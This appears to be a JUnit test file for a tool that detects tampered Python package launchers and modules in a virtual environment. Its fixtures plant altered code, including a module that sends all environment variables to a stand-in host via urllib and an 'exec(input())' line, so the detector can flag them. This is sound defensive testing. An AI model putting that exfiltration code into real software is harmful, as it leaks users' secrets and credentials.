package dev.auditpath.examine;

import static org.assertj.core.api.Assertions.assertThat;

import dev.auditpath.behaviour.ModuleSource;
import dev.auditpath.behaviour.Modules;
import dev.auditpath.behaviour.Program;
import dev.auditpath.behaviour.Subject;
import dev.auditpath.distinfo.InstalledDistribution;
import dev.auditpath.distinfo.MetadataFolder;
import dev.auditpath.host.Host;
import dev.auditpath.host.Problems;
import dev.auditpath.model.Behaviour;
import dev.auditpath.model.Candidate;
import dev.auditpath.model.CommandName;
import dev.auditpath.model.EntryPoint;
import dev.auditpath.model.EnvironmentKind;
import dev.auditpath.model.Evidence;
import dev.auditpath.model.Examination;
import dev.auditpath.model.FileIdentity;
import dev.auditpath.model.Hold;
import dev.auditpath.model.Inventory;
import dev.auditpath.model.Launcher.Form;
import dev.auditpath.model.NameClaim;
import dev.auditpath.model.Platform;
import dev.auditpath.model.Provenance;
import dev.auditpath.model.PythonEnvironment;
import dev.auditpath.model.Resolution;
import dev.auditpath.model.Runnability;
import dev.auditpath.model.Unattributed;
import dev.auditpath.testing.Machines;
import dev.auditpath.testing.RealVenv;
import dev.auditpath.testing.WheelFile;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/** One real environment with what a real pip put there, and what was done to it afterwards. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ExaminerTest {
  @TempDir private static Path workshop;

  private RealVenv venv;
  private EntryReader reader = new EntryReader();
  private Host host;
  private Problems problems;

  @BeforeAll
  void installOnce() throws IOException, InterruptedException {
    venv = RealVenv.create(workshop.resolve("venv"));
  }

  @BeforeEach
  void install() throws IOException, InterruptedException {
    WheelFile acme =
        WheelFile.of("acme", "1.0")
            .file("acme/__init__.py", "VERSION = 1\n")
            .file("acme/cli.py", "def main():\n    return 0\n")
            .script("acme-data", "#!python\nprint('data')\n")
            .script("acme-shell", "#!/bin/sh\nexec /usr/bin/git \"$@\"\n")
            .script("acme-perl", "#!/usr/bin/perl\nexec 'git';\n")
            .consoleScript("acme", "acme.cli:main")
            .consoleScript("acme-too", "acme.cli:main");
    reader = new EntryReader();
    Files.deleteIfExists(venv.bin("acme"));
    removeRival();
    venv.pip("--force-reinstall", acme.write(workshop.resolve("wheels")).toString());
    host = Machines.real(workshop);
    problems = new Problems(host);
  }

  @Test
  void whatPipWroteIsClean() throws IOException {
    Examination acme = examine("acme");
    assertThat(acme.launcher().form()).isEqualTo(Form.GENERATED);
    assertThat(acme.launcher().writer()).isEqualTo("pip");
    assertThat(acme.launcher().target()).contains(new EntryPoint("acme.cli", "main"));
    assertThat(acme.launcher().alterations()).isEmpty();
    assertThat(acme.alteredFiles()).isEmpty();
    assertThat(acme.rivals()).isEmpty();
    assertThat(acme.sources()).hasSize(2);
    assertThat(reader.subjects.get(0).commands()).containsExactly("acme", "acme-too");
    assertThat(reader.subjects.get(0).distribution()).isEqualTo("acme");
    assertThat(reader.commands("pip._internal.cli").get("pip._internal.cli.main")).contains("pip");
    assertThat(reader.commands("acme.cli")).isEmpty();
    assertThat(reader.found)
        .allSatisfy(
            source ->
                assertThat(source)
                    .isInstanceOfSatisfying(
                        ModuleSource.Text.class,
                        text -> assertThat(text.distribution()).isEqualTo("acme")));
  }

  @Test
  void aLineMoreIsAnAlteration() throws IOException {
    Path script = venv.bin("acme");
    String text = Files.readString(script).replace("import sys\n", "import sys\nimport evil\n");
    Files.writeString(script, text);
    List<Evidence> alterations = examine("acme").launcher().alterations();
    assertThat(alterations).hasSize(1);
    assertThat(alterations.get(0).excerpt()).isEqualTo("import evil");
    assertThat(alterations.get(0).detail())
        .isEqualTo("its installer (pip) does not write this line");
    int line = text.substring(0, text.indexOf("import evil")).split("\n", -1).length;
    assertThat(alterations.get(0).line()).isEqualTo(line);
    assertThat(reader.programs.get(0)).isInstanceOf(Program.Script.class);
  }

  @Test
  void anotherTargetIsAnAlteration() throws IOException {
    Path script = venv.bin("acme");
    Files.writeString(script, Files.readString(script).replace("acme.cli", "evil.cli"));
    List<Evidence> alterations = examine("acme").launcher().alterations();
    assertThat(alterations).hasSize(1);
    assertThat(alterations.get(0).path()).hasFileName("entry_points.txt");
    assertThat(alterations.get(0).excerpt()).isEqualTo("acme = acme.cli:main");
    assertThat(alterations.get(0).line()).isEqualTo(2);
  }

  @Test
  void aFirstLineWrittenAnewIsNone() throws IOException {
    for (String first : List.of("#!/opt/moved/bin/python", "#!" + venv.bin("python") + " -E")) {
      for (String name : List.of("acme", "acme-data")) {
        Path script = venv.bin(name);
        String text = Files.readString(script);
        Files.writeString(script, first + text.substring(text.indexOf('\n')));
        assertThat(examine(name).launcher().alterations()).as("%s %s", name, first).isEmpty();
      }
    }
  }

  @Test
  void aProgramThatTheWheelShippedIsNoAlteredLauncher() throws IOException {
    assertThat(examine("acme-data").launcher().form()).isEqualTo(Form.PYTHON);
    assertThat(examine("acme-data").launcher().alterations()).isEmpty();
    assertThat(examine("acme-shell").launcher().form()).isEqualTo(Form.SHELL);
    assertThat(examine("acme-shell").launcher().alterations()).isEmpty();
    assertThat(reader.shellTexts.get(0)).contains("exec /usr/bin/git");
    assertThat(examine("acme-perl").launcher().form()).isEqualTo(Form.OTHER_SCRIPT);
    assertThat(examine("acme-perl").behaviour().unread()).hasSize(1);
  }

  @Test
  void aProgramThatTheWheelShippedAndIsNotWhatRecordSaysIsAltered() throws IOException {
    for (String name : List.of("acme-data", "acme-shell")) {
      Files.writeString(venv.bin(name), Files.readString(venv.bin(name)) + "# more\n");
      List<Evidence> alterations = examine(name).launcher().alterations();
      assertThat(alterations).hasSize(1);
      assertThat(alterations.get(0).detail()).contains("RECORD says in line ");
    }
  }

  @Test
  void aModuleThatIsNotWhatRecordSaysIsAltered() throws IOException {
    Path module = venv.sitePackages().resolve("acme/__init__.py");
    Files.writeString(module, "import socket\n");
    assertThat(examine("acme").alteredFiles())
        .singleElement()
        .satisfies(
            evidence -> {
              assertThat(evidence.path()).isEqualTo(module);
              assertThat(evidence.kind()).isEqualTo("altered");
              assertThat(evidence.detail()).contains("is not what ").contains("…");
            });
  }

  @Test
  void anotherRecordThatNamesTheFileIsARival() throws IOException, InterruptedException {
    WheelFile rival =
        WheelFile.of("rival", "2.0")
            .file("rival.py", "def main():\n    return 0\n")
            .consoleScript("acme", "rival:main");
    venv.install(rival.write(workshop.resolve("wheels")));
    Examination examination = examine("acme", venv.distInfo("rival"));
    assertThat(examination.launcher().target()).contains(new EntryPoint("rival", "main"));
    assertThat(examination.rivals())
        .singleElement()
        .satisfies(
            evidence -> {
              assertThat(evidence.path()).isEqualTo(venv.distInfo("acme").resolve("RECORD"));
              assertThat(evidence.excerpt()).startsWith("../../../bin/acme,");
              assertThat(evidence.line()).isPositive();
            });
  }

  @Test
  void byteCodeThatIsNotComparedWithItsSourceIsSaid() throws IOException {
    Path cache = Files.createDirectories(venv.sitePackages().resolve("acme/__pycache__"));
    String tag = "cpython-" + python().replace(".", "");
    byte[] unchecked = new byte[64];
    unchecked[4] = 1;
    Files.write(cache.resolve("cli." + tag + ".pyc"), unchecked);
    assertThat(examine("acme").behaviour().unread())
        .singleElement()
        .satisfies(evidence -> assertThat(evidence.kind()).isEqualTo("dynamic-code"));
  }

  @Test
  void machineCodeOfADistributionIsUnread() throws IOException {
    Files.copy(Path.of("/bin/true"), venv.bin("acme-data"), StandardCopyOption.REPLACE_EXISTING);
    Examination examination = examine("acme-data");
    assertThat(examination.launcher().form()).isEqualTo(Form.NATIVE);
    assertThat(examination.behaviour().unread().get(0).kind()).isEqualTo("native-code");
  }

  @Test
  void aZipApplicationIsReadByItsMain() throws IOException {
    Path script = venv.bin("acme-zip");
    try (OutputStream out = Files.newOutputStream(script)) {
      out.write("#!/usr/bin/env python3\n".getBytes(StandardCharsets.UTF_8));
      try (ZipOutputStream zip = new ZipOutputStream(out)) {
        zip.putNextEntry(new ZipEntry("__main__.py"));
        zip.write("import helper\n".getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
        zip.putNextEntry(new ZipEntry("helper.py"));
        zip.write("x = 1\n".getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
      }
    }
    Examination examination = examine(script, new Unattributed());
    assertThat(examination.launcher().form()).isEqualTo(Form.ZIP_APPLICATION);
    assertThat(reader.programs)
        .singleElement()
        .isInstanceOfSatisfying(
            Program.Script.class,
            program -> assertThat(program.source()).isEqualTo("import helper\n"));
  }

  @Test
  void aZipWithoutMainIsUnread() throws IOException {
    Path script = venv.bin("acme-zip");
    try (OutputStream out = Files.newOutputStream(script)) {
      out.write("#!/usr/bin/env python3\n".getBytes(StandardCharsets.UTF_8));
      try (ZipOutputStream zip = new ZipOutputStream(out)) {
        zip.putNextEntry(new ZipEntry("other.py"));
        zip.closeEntry();
      }
    }
    assertThat(examine(script, new Unattributed()).behaviour().unread()).hasSize(1);
  }

  @Test
  void aFaultOfTheReaderCostsOneProgram() throws IOException {
    CodeReader faulty =
        new CodeReader() {
          @Override
          public Behaviour python(Subject subject, Program program, Modules modules) {
            throw new StackOverflowError("deep");
          }

          @Override
          public Behaviour shell(Subject subject, Path file, String text) {
            throw new IllegalStateException("no");
          }
        };
    for (String name : List.of("acme", "acme-shell")) {
      Candidate candidate = candidate(venv.bin(name), provenance(venv.distInfo("acme")));
      Examination examination =
          new Examiner(host, problems, faulty)
              .examine(List.of(claim(candidate, "")), inventory())
              .get(candidate.realPath());
      assertThat(examination.behaviour().unread()).hasSize(1);
    }
    assertThat(problems.toList()).hasSize(2);
  }

  @Test
  void whatTheCodeDoesIsReadThroughLauncherAndImports() throws IOException {
    Files.writeString(
        venv.sitePackages().resolve("acme/cli.py"),
        """
        import subprocess, sys
        from acme.send import send

        def main():
            send()
            return subprocess.call(["/usr/bin/git", *sys.argv[1:]])
        """);
    Files.writeString(
        venv.sitePackages().resolve("acme/send.py"),
        """
        import os, urllib.request

        def send():
            urllib.request.urlopen("http://example.invalid", data=repr(dict(os.environ)).encode())
        """);
    Candidate candidate = candidate(venv.bin("acme"), provenance(venv.distInfo("acme")));
    Examination examination =
        new Examiner(host, problems, new StaticReader())
            .examine(List.of(claim(candidate, "")), inventory())
            .get(candidate.realPath());
    assertThat(examination.behaviour().handsOverTo("git")).isTrue();
    assertThat(examination.behaviour().effects()).extracting(Evidence::kind).contains("network");
    assertThat(examination.alteredFiles())
        .singleElement()
        .satisfies(evidence -> assertThat(evidence.path()).hasFileName("cli.py"));
    assertThat(examination.sources())
        .extracting(source -> source.file().getFileName().toString())
        .contains("__init__.py", "cli.py", "send.py");
  }

  @Test
  void expectedName_isNotReadWhereNothingWasAltered() throws IOException {
    Examination examination = expected();

    assertThat(examination.behaviour()).isEqualTo(Behaviour.NONE);
    assertThat(examination.alteredFiles()).isEmpty();
    assertThat(examination.sources()).isNotEmpty();
  }

  @Test
  void expectedName_isReadWhereItsFilesWereAltered() throws IOException {
    Files.writeString(
        venv.sitePackages().resolve("acme/cli.py"), "exec(input())\n\ndef main(): pass\n");

    Examination examination = expected();

    assertThat(examination.alteredFiles())
        .singleElement()
        .satisfies(evidence -> assertThat(evidence.path()).hasFileName("cli.py"));
    assertThat(examination.behaviour().unread())
        .singleElement()
        .satisfies(evidence -> assertThat(evidence.path()).hasFileName("cli.py"));
  }

  private Examination expected() throws IOException {
    Candidate candidate = candidate(venv.bin("acme"), provenance(venv.distInfo("acme")));
    return new Examiner(host, problems, new StaticReader())
        .examine(List.of(claim(candidate, "it is its publisher")), inventory())
        .get(candidate.realPath());
  }

  private static NameClaim claim(Candidate winner, String expected) {
    Resolution resolution =
        new Resolution(winner.command(), "terminal", Optional.empty(), List.of(winner));
    return new NameClaim(Hold.CLAIMS, resolution, winner, List.of(), expected);
  }

  private void removeRival() throws IOException {
    Path info = venv.sitePackages().resolve("rival-2.0.dist-info");
    if (Files.isDirectory(info)) {
      try (Stream<Path> files = Files.walk(info)) {
        for (Path file : files.sorted(Comparator.reverseOrder()).toList()) {
          Files.delete(file);
        }
      }
    }
  }

  private Examination examine(String name) throws IOException {
    return examine(name, venv.distInfo("acme"));
  }

  private Examination examine(String name, Path distInfo) throws IOException {
    return examine(venv.bin(name), provenance(distInfo));
  }

  private Examination examine(Path script, Provenance provenance) throws IOException {
    // One host reads a program once; here it is changed between two looks at it.
    host = Machines.real(workshop);
    problems = new Problems(host);
    Candidate candidate = candidate(script, provenance);
    Map<Path, Examination> examinations =
        new Examiner(host, problems, reader).examine(List.of(claim(candidate, "")), inventory());
    assertThat(examinations).containsOnlyKeys(candidate.realPath());
    return examinations.get(candidate.realPath());
  }

  private Provenance provenance(Path distInfo) {
    String name = String.valueOf(distInfo.getFileName());
    MetadataFolder folder = MetadataFolder.named(distInfo.getParent(), name, host).orElseThrow();
    return new InstalledDistribution(host, problems).read(folder);
  }

  private static Candidate candidate(Path script, Provenance provenance) {
    return new Candidate(
        CommandName.of(String.valueOf(script.getFileName()), Platform.LINUX),
        script,
        new FileIdentity(script),
        Runnability.RUNS,
        List.of(),
        script,
        provenance);
  }

  private Inventory inventory() throws IOException {
    PythonEnvironment environment =
        new PythonEnvironment(
            new EnvironmentKind("venv"),
            venv.prefix(),
            venv.bin(),
            python() + ".0",
            List.of(venv.sitePackages()));
    return new Inventory(List.of(), Map.of(), List.of(environment), 0);
  }

  /** Returns {@code 3.11}. */
  private String python() throws IOException {
    String folder = String.valueOf(venv.sitePackages().getParent().getFileName());
    return folder.substring("python".length());
  }
}
